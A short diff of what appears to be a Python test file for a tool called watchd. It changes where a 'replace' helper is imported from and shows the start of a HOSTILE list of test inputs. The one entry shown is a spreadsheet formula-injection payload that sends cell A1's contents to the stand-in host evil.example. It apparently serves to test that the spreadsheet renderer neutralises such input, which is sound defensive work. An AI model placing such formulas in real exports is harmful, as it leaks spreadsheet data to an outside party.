@@ -5,7 +5,6 @@ from __future__ import annotations
 import csv
 import io
 import json
-from dataclasses import replace
 from datetime import timedelta
 from pathlib import Path
 
@@ -17,6 +16,7 @@ from tests.support.site import Site
 from watchd.cli import jsonl
 from watchd.model import Item
 from watchd.render.spreadsheet import cell, row
+from watchd.values import replace
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
